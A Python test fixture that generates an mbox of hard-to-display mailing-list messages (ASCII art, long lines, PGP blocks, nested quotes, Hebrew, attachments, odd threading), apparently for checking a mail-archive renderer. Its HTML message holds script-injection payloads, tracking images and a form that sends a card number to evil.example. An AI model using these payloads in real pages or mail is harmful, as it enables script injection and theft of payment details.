"""Mail that is hard to show, all of it ours."""

from __future__ import annotations

import base64
import random
import struct
import zlib

SEPARATOR = b"From owner-keepers@lists.fastnet.example Mon Mar  4 21:10:00 1996\n"
LAMP = r"""
                       _____
                      /_____\          . - ~ ~ - .
                 ____[\`---'/]____   (   g a n n e t  )
                /\ #\ \_____/ /# /\   ` - . _ _ . - '
               /  \# \_.---._/ #/  \                        |\/|      ~~~~~~~~~~~~~~~~~
              /   /|\  |   |  /|\   \                    ___|  |___
             /___/ | | |   | | | \___\      _____________\________/_____________________
             |  |  | | |---| | |  |  |     ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~
"""
KEY = "\n".join(
    base64.b64encode(random.Random(n).randbytes(48)).decode() for n in range(14)
)
ARMOUR = (
    "-----BEGIN PGP SIGNED MESSAGE-----\n\nThe reef light is mine to keep.\n\n"
    "-----BEGIN PGP SIGNATURE-----\nVersion: 2.6.2\n\n"
    f"{KEY[:260]}\n-----END PGP SIGNATURE-----\n\n"
    "-----BEGIN PGP PUBLIC KEY BLOCK-----\nVersion: 2.6.2\n\n"
    f"{KEY}\n-----END PGP PUBLIC KEY BLOCK-----\n"
)
TABLE = "\n".join(
    f"{name:<14}" + "".join(f"{(n * 37 + at * 11) % 1000:>9}" for at in range(12))
    for n, name in enumerate(("Gannet Rock", "Skerrow", "Vaar", "North Haven", "Kestrel"))
)
DIFF = """\
--- lamp.c.orig  Tue Mar  1 10:00:00 1996
+++ lamp.c  Tue Mar  1 11:00:00 1996
@@ -1,4 +1,5 @@
 int lit(int hour) {
-    return hour > 18;
+    /* the sun sets at four in December */
+    return hour > 16 || hour < 8;  /* and a long remark runs on at the end of its line, on and on */
 }
"""
WORDS = (
    "the oil ran out and nobody on the rock had a key to the store where the rest of it "
    "was kept so the lamp went dark for an hour and a quarter "
)
QUOTED = "".join(
    f"{'> ' * depth}{line}\n"
    for depth in (7, 6, 5, 4, 3, 2, 1)
    for line in (f"They said, at the {depth}th remove, that it was", "never so dark again.")
)
HEBREW = (
    "\u05e9\u05dc\u05d5\u05dd \u05dc\u05db\u05d5\u05dc\u05dd, \u05d4\u05d0\u05d5\u05e8 "
    "\u05d3\u05d5\u05dc\u05e7 (lamp 3) \u05d1\u05d9\u05df 18:00 \u05dc-06:00.\n"
)
HTML = (
    "<html><head><style>body{background:url(http://track.example/a.gif)}</style></head>"
    "<body onload='alert(1)' bgcolor=#000000 text=#00ff00><center><font size=7 color=lime>"
    "GREAT LAMPS!!!</font></center><script>alert(1)</script>"
    "<table width=1400 border=5><tr><td>one<td>two<td><img src=http://track.example/b.gif>"
    "</table><p style='position:fixed;top:0;left:0;width:9999px;height:9999px'>cover"
    "<marquee>buy</marquee><form action=http://evil.example/><input name=card></form>"
    "<a href='javascript:alert(1)'>here</a> <a href=http://lamps.example/>lamps</a></body>"
)


def _png() -> bytes:
    """A picture of 300 by 40 pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(name + data))
        return struct.pack(">I", len(data)) + name + data + check

    rows = b"".join(b"\0" + bytes((x * y) % 256 for x in range(300)) for y in range(40))
    head = struct.pack(">IIBBBBB", 300, 40, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def _files() -> str:
    picture = base64.encodebytes(_png()).decode()
    name = "a-picture-of-the-lamp-with-a-name-as-long-as-the-pier-" * 2
    return (
        "--tea\nContent-Type: text/plain\n\nThe picture, and the log.\n"
        f'--tea\nContent-Type: image/png; name="{name}.png"\n'
        f"Content-Transfer-Encoding: base64\n\n{picture}"
        '--tea\nContent-Type: text/x-c; name="lamp.c"\n'
        'Content-Disposition: attachment; filename="lamp.c"\n\nint lit;\n--tea--\n'
    )


LETTERS: dict[str, tuple[str, str, str]] = {
    "art": ("ASCII art", "text/plain", f"Look:\n{LAMP}\nand the table:\n\n{TABLE}\n"),
    "long-lines": ("Lines of 200", "text/plain", f"{WORDS * 2}\n\n> {WORDS * 2}\n" * 6),
    "no-spaces": (
        "W" * 180,
        "text/plain",
        f"{'w' * 900}\nhttp://example.org/{'x' * 300}\n",
    ),
    "armour": ("Signed", "text/plain", ARMOUR),
    "diff": ("[PATCH] lamp: burn longer", "text/plain", f"It was dark.\n\n{DIFF}"),
    "deep": ("Re: Quotes in quotes", "text/plain", f"{QUOTED}\nNever again.\n"),
    "long-quote": (
        "Re: The whole log",
        "text/plain",
        "Ida wrote:\n"
        + "".join(f"> hour {hour}: the lamp burned, {WORDS[:40]}\n" for hour in range(60))
        + "\nAll of it?\n",
    ),
    "hebrew": (
        "\u05e9\u05dc\u05d5\u05dd",
        "text/plain; charset=utf-8",
        HEBREW * 3 + "\nAnd one line of English.\n",
    ),
    "markup": ("<b>&amp;</b> FREE LAMPS", "text/html", HTML),
    "files": ("A picture", "multipart/mixed; boundary=tea", _files()),
    "empty": ("", "text/plain", "\n"),
    "code": (
        "A program",
        "text/plain",
        "Try this:\n\n```c\nint main(void) {\n  /* "
        + "a long remark " * 12
        + "*/\n  return 0; }\n```\n",
    ),
}
"""Subject, type and text by name; `<name>@ugly.example` is the Message-ID."""
WITHDRAWN = "regretted"
MOVED = ("late-answer", "question")
"""A thread of its own that is found to answer another."""
TALK = 12
"""Messages of a conversation that answer each other."""


CROWD = 260
"""Messages of one month: more than a page of it holds, and of a person's."""


def _letter(name: str, subject: str, kind: str, text: str, parent: str = "") -> bytes:
    number = sum(map(ord, name))
    answer = f"In-Reply-To: <{parent}@ugly.example>\n" if parent else ""
    head = (
        f"From: {name.title()} Brook <{name}@ugly.example>\n"
        f"Date: {1 + number % 28} Mar 2004 {number % 24:02}:10:00 +0000\n"
        f"Message-ID: <{name}@ugly.example>\n{answer}"
        f"Subject: {subject}\nMIME-Version: 1.0\nContent-Type: {kind}\n"
    )
    if "charset" in kind:
        head += "Content-Transfer-Encoding: 8bit\n"
    quoted = text.replace("\nFrom ", "\n>From ")
    return SEPARATOR + f"{head}\n{quoted}\n\n".encode()


def _note(number: int) -> bytes:
    """One of a crowd in January 2004, every other one by the same hand."""
    who = f"keeper{number if number % 2 else 0}"
    head = (
        f"From: {who.title()} Crowd <{who}@ugly.example>\n"
        f"Date: {1 + number % 28} Jan 2004 {number % 24:02}:20:00 +0000\n"
        f"Message-ID: <note{number}@ugly.example>\nSubject: Log {number}\n"
    )
    return SEPARATOR + f"{head}\nLamp {number} lit.\n\n".encode()


def _said(number: int) -> str:
    return (
        f"The {number}th barrel of oil stands in the store below the stair, sealed.\n"
        f"Nobody has counted the other {number + 3} since the inspector came in spring.\n"
    )


def mbox() -> bytes:
    """All of it."""
    letters = [_letter(name, *parts) for name, parts in LETTERS.items()]
    letters.append(_letter(WITHDRAWN, "A letter I regret", "text/plain", "Forget it.\n"))
    for name, subject in zip(MOVED, ("Found it", "Where is the key?"), strict=True):
        text = f"It is about the key ({name}).\n"
        letters.append(_letter(name, subject, "text/plain", text))
    letters.append(_letter("thanks", "Re: Found it", "text/plain", "Good.\n", MOVED[0]))
    letters += [_note(number) for number in range(CROWD)]
    for number in range(TALK):
        quoted = "".join(f"> {line}\n" for line in _said(number - 1).splitlines())
        letters.append(
            _letter(
                f"talk{number}",
                "Re: Barrels" if number else "Barrels",
                "text/plain",
                f"{quoted if number else ''}\n{_said(number)}",
                f"talk{number - 1 - number % 2}" if number else "",
            )
        )
    return b"".join(letters)
